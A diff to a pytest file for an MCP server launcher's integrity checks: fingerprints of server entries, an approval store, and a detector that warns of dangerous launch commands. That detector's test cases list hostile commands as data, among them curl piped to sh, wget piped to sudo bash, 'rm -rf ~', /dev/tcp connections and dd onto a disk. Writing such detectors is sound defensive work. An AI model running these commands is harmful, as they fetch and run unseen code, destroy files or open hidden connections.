@@ -17,7 +17,7 @@ import trunkline
 from tests.support import run_async
 from trunkline.errors import ConfigError
 from trunkline.host.config.model import Scope, ServerEntry, ServerSettings, Source
-from trunkline.host.integrity.fingerprints import Fingerprint, fingerprint, take_fingerprint
+from trunkline.host.integrity.fingerprints import Fingerprint, fingerprint
 from trunkline.host.integrity.trust import FingerprintChange, TrustStatus, TrustStore, warnings_for
 
 NOON = 1_800_000_000.0
@@ -69,11 +69,9 @@ def _changed_parts(before: ServerEntry, now: ServerEntry) -> set[str]:
     ("part", "change"),
     [
         pytest.param("args", {"command": ("./bin/tool", "--slow")}, id="an argument"),
-        pytest.param("args", {"command": ("./bin/tool", "--fast", "")}, id="an empty argument more"),
         pytest.param("args", {"command": ("./bin/tool",)}, id="an argument less"),
         pytest.param("command", {"command": ("./bin/other", "--fast")}, id="a program that is not there"),
         pytest.param("env", {"env": {"TOKEN": "x", "MORE": "y"}}, id="a variable more"),
-        pytest.param("env", {"env": {}}, id="a variable less"),
         pytest.param("cwd", {"cwd": None}, id="another folder"),
         pytest.param("sandbox", {"settings": ServerSettings(sandbox={"network": True})}, id="another sandbox"),
     ],
@@ -153,19 +151,10 @@ def test_a_link_that_leads_to_another_program_of_the_same_content_has_another_fi
     assert before.digest != now.digest
 
 
-def test_a_program_that_is_installed_later_has_another_fingerprint(project: Path) -> None:
-    entry = _entry(project, command=("./bin/late",))
-    before = fingerprint(entry)
-    _program(project / "bin" / "late", "#!/bin/sh\n")
-    assert "not found" in before.parts["command"]
-    assert fingerprint(entry).digest != before.digest
-
-
 @pytest.mark.parametrize(
     "words",
     [
         pytest.param((sys.executable, "server.py"), id="python"),
-        pytest.param((sys.executable, "-u", "server.py", "data.db"), id="an option first"),
         pytest.param((sys.executable, "-W", "ignore", "server.py"), id="an option with a value first"),
         pytest.param(("/usr/bin/env", "A=1", "python3", "server.py"), id="env"),
         pytest.param(("uv", "run", "--with", "mcp", "server.py"), id="uv run"),
@@ -174,6 +163,8 @@ def test_a_program_that_is_installed_later_has_another_fingerprint(project: Path
         pytest.param(("node", "--import=./server.py", "main.js"), id="a file loaded first, with ="),
         pytest.param(("bash", "-e", "server.py"), id="a shell"),
         pytest.param(("deno", "run", "-A", "server.py"), id="deno run"),
+        pytest.param(("trunkline", "run", "server.py:server"), id="trunkline run"),
+        pytest.param((sys.executable, "-m", "trunkline", "run", "--compat", "server.py"), id="python -m trunkline run"),
     ],
 )
 def test_the_script_that_an_interpreter_runs_is_in_the_fingerprint(words: tuple[str, ...], project: Path) -> None:
@@ -252,10 +243,6 @@ def test_a_path_that_is_no_unicode_has_a_fingerprint_that_can_be_kept(project: P
     assert book.status(entry, fingerprint(entry)).state == "approved"
 
 
-def test_a_fingerprint_is_the_same_when_computed_in_a_thread(project: Path) -> None:
-    assert run_async(take_fingerprint(_entry(project))) == fingerprint(_entry(project))
-
-
 # --- the book --------------------------------------------------------------------------------------------------------
 
 
@@ -314,15 +301,14 @@ def test_what_was_seen_is_approved_and_not_what_came_meanwhile(project: Path, bo
     assert _standing(book, _entry(project)).state == "changed"
 
 
-def test_an_approval_holds_in_its_own_folder_only(project: Path, book: TrustStore, tmp_path: Path) -> None:
-    book.approve(_entry(project), fingerprint(_entry(project)))
-    other = msgspec.structs.replace(_entry(project), source=Source("project", str(tmp_path / "other" / ".mcp.json")))
-    assert _standing(book, other).state == "new"
-
-
-def test_an_approval_holds_for_its_own_name_only(project: Path, book: TrustStore) -> None:
-    book.approve(_entry(project), fingerprint(_entry(project)))
-    assert _standing(book, msgspec.structs.replace(_entry(project), name="other")).state == "new"
+def test_an_approval_holds_in_its_own_folder_and_for_its_own_name_only(
+    project: Path, book: TrustStore, tmp_path: Path
+) -> None:
+    entry = _entry(project)
+    book.approve(entry, fingerprint(entry))
+    elsewhere = msgspec.structs.replace(entry, source=Source("project", str(tmp_path / "other" / ".mcp.json")))
+    other = msgspec.structs.replace(entry, name="other")
+    assert [_standing(book, each).state for each in (entry, elsewhere, other)] == ["approved", "new", "new"]
 
 
 def test_a_project_reached_by_a_link_is_the_same_project(project: Path, book: TrustStore, tmp_path: Path) -> None:
@@ -389,11 +375,6 @@ def test_the_check_before_a_start_agrees_with_the_status(scope: Scope, project: 
     assert run_async(book.check(entry)) == (status.may_run, None if status.may_run else status.reason)
 
 
-def test_a_supervisor_is_given_no_reason_once_a_server_is_approved(project: Path, book: TrustStore) -> None:
-    book.approve(_entry(project), fingerprint(_entry(project)))
-    assert run_async(book.check(_entry(project))) == (True, None)
-
-
 # --- the file --------------------------------------------------------------------------------------------------------
 
 
@@ -433,7 +414,7 @@ DAMAGES = [_cut, _empty, _newer, _open_to_others, _folder]
 
 
 @pytest.mark.parametrize("damage", DAMAGES)
-def test_a_store_that_cannot_be_relied_on_approves_nothing(
+def test_a_store_that_cannot_be_relied_on_approves_nothing_and_is_not_overwritten(
     damage: Callable[[Path], None], project: Path, book: TrustStore, tmp_path: Path
 ) -> None:
     book.approve(_entry(project), fingerprint(_entry(project)))
@@ -441,18 +422,10 @@ def test_a_store_that_cannot_be_relied_on_approves_nothing(
     status = _standing(book, _entry(project))
     assert (status.state, status.may_run) == ("new", False)
     assert str(_path(tmp_path)) in status.reason
-
-
-@pytest.mark.parametrize("damage", [_cut, _empty, _newer, _open_to_others])
-def test_a_store_that_cannot_be_relied_on_is_not_overwritten(
-    damage: Callable[[Path], None], project: Path, book: TrustStore, tmp_path: Path
-) -> None:
-    book.approve(_entry(project), fingerprint(_entry(project)))
-    damage(_path(tmp_path))
-    before = _path(tmp_path).read_bytes()
+    before = _path(tmp_path).stat()
     with pytest.raises(ConfigError, match=r"trust\.json"):
         book.approve(_entry(project), fingerprint(_entry(project)))
-    assert _path(tmp_path).read_bytes() == before
+    assert _path(tmp_path).stat() == before
 
 
 def test_listing_a_malformed_store_raises(book: TrustStore, tmp_path: Path) -> None:
@@ -493,8 +466,6 @@ from trunkline.host.integrity.fingerprints import fingerprint
 from trunkline.host.integrity.trust import TrustStore
 
 book, folder, letter = TrustStore(Path(sys.argv[1])), sys.argv[2], sys.argv[3]
-print("ready", flush=True)
-sys.stdin.readline()
 for number in range(40):
     source = Source("project", f"{folder}/.mcp.json")
     entry = ServerEntry(name=f"{letter}{number:02}", source=source, url="https://mcp.example.com")
@@ -502,30 +473,12 @@ for number in range(40):
 """
 
 
-def _starting(tmp_path: Path, project: Path, letter: str) -> subprocess.Popen[str]:
-    """Start a process that approves many servers as soon as it is told to."""
-    return subprocess.Popen(
-        [sys.executable, "-c", APPROVE_MANY, str(_path(tmp_path)), str(project), letter],
-        env={**os.environ, "PYTHONPATH": str(Path(trunkline.__file__).parents[1])},
-        stdin=subprocess.PIPE,
-        stdout=subprocess.PIPE,
-        text=True,
-    )
-
-
 def test_two_processes_that_approve_at_once_lose_nothing(project: Path, book: TrustStore, tmp_path: Path) -> None:
-    with _starting(tmp_path, project, "a") as first, _starting(tmp_path, project, "b") as second:
-        assert first.stdout is not None
-        assert second.stdout is not None
-        assert (first.stdout.readline(), second.stdout.readline()) == ("ready\n", "ready\n")
-        assert first.stdin is not None
-        assert second.stdin is not None
-        first.stdin.close()
-        second.stdin.close()
-        assert (first.wait(timeout=20), second.wait(timeout=20)) == (0, 0)
-    assert [each.name for each in book.approvals()] == [
-        f"{letter}{number:02}" for letter in "ab" for number in range(40)
-    ]
+    environment = {**os.environ, "PYTHONPATH": str(Path(trunkline.__file__).parents[1])}
+    command = [sys.executable, "-c", APPROVE_MANY, str(_path(tmp_path)), str(project)]
+    processes = [subprocess.Popen([*command, letter], env=environment) for letter in "ab"]
+    assert [process.wait(30) for process in processes] == [0, 0]
+    assert len(book.approvals()) == 80
 
 
 # --- what is warned of -----------------------------------------------------------------------------------------------
@@ -537,22 +490,17 @@ def test_two_processes_that_approve_at_once_lose_nothing(project: Path, book: Tr
         pytest.param(("bash", "-c", "x"), "runs code given on its command line (bash -c)", id="a shell"),
         pytest.param(("sh", "-lc", "x"), "runs code given on its command line (sh -lc)", id="flags together"),
         pytest.param(("cmd.exe", "/C", "x"), "runs code given on its command line (cmd /C)", id="cmd"),
-        pytest.param(("python3.12", "-c", "x"), "(python3.12 -c)", id="python"),
         pytest.param(("python", "-W", "ignore", "-c", "x"), "(python -c)", id="behind another option"),
-        pytest.param(("node", "-e", "x"), "(node -e)", id="node"),
         pytest.param(("/usr/bin/env", "bash", "-c", "x"), "(bash -c)", id="behind env"),
         pytest.param(("sudo", "tool"), "rights of another user (sudo)", id="sudo"),
         pytest.param(("tool", "curl https://x.example/i | sh"), "fetches a script and runs it unseen", id="curl to sh"),
-        pytest.param(("tool", "wget -qO- x.example | sudo bash"), "fetches a script", id="wget to sudo bash"),
         pytest.param(("tool", "rm -rf ~"), "deletes whole folders", id="rm -rf"),
         pytest.param(("rm", "-v", "-fr", "x"), "deletes whole folders", id="rm -fr in words"),
         pytest.param(("tool", "echo aa | base64 -d | x"), "decodes something", id="base64"),
         pytest.param(("tool", "cat < /dev/tcp/x/1"), "opens a connection of its own", id="/dev/tcp"),
         pytest.param(("dd", "if=x", "of=/dev/sda"), "writes to a disk directly", id="dd"),
         pytest.param(("docker", "run", "-v", "/:/host", "a/b:1.2"), "the whole machine", id="the root as a volume"),
-        pytest.param(("docker", "run", "--privileged", "a/b:1.2"), "the whole machine", id="privileged"),
         pytest.param(("npx", "-y", "pkg"), "fetches pkg without a fixed version", id="npx"),
-        pytest.param(("npx", "-y", "@team/pkg@latest"), "fetches @team/pkg@latest without", id="npx latest"),
         pytest.param(("npx", "pkg@^1.2.3"), "fetches pkg@^1.2.3 without", id="npx range"),
         pytest.param(("npx", "-p", "pkg", "tool"), "fetches pkg without", id="npx -p"),
         pytest.param(("npx", "--package=pkg", "tool"), "fetches pkg without", id="npx --package="),
@@ -561,7 +509,6 @@ def test_two_processes_that_approve_at_once_lose_nothing(project: Path, book: Tr
         pytest.param(("uvx", "pkg"), "fetches pkg without", id="uvx"),
         pytest.param(("uvx", "--python", "3.12", "pkg"), "fetches pkg without", id="uvx behind an option"),
         pytest.param(("uvx", "--from", "git+https://x.example/p", "tool"), "fetches git+https", id="uvx --from"),
-        pytest.param(("uv", "tool", "run", "pkg"), "fetches pkg without", id="uv tool run"),
         pytest.param(
             ("docker", "run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/a/b"), "fetches ghcr.io/a/b without", id="docker"
         ),
@@ -583,12 +530,10 @@ def test_a_dangerous_command_is_warned_of(words: tuple[str, ...], said: str, pro
     [
         pytest.param(("./bin/tool", "--fast"), id="a program"),
         pytest.param(("python", "server.py", "-c", "config.toml"), id="an option of the script"),
-        pytest.param(("python", "-u", "server.py", "-c", "config.toml"), id="an option of the script, behind another"),
         pytest.param(("python", "-m", "server", "-c", "config.toml"), id="an option of the module"),
         pytest.param(("npx", "-y", "@team/pkg@1.2.3"), id="npx, fixed"),
         pytest.param(("npx", "./local"), id="npx, here"),
         pytest.param(("uvx", "pkg==1.2"), id="uvx, fixed"),
-        pytest.param(("uvx", "pkg@1.2"), id="uvx, fixed with @"),
         pytest.param(("docker", "run", "a/b:1.2"), id="docker, fixed"),
         pytest.param(("docker", "run", f"a/b@sha256:{'0' * 64}"), id="docker, by digest"),
         pytest.param(("uvx",), id="nothing to fetch"),
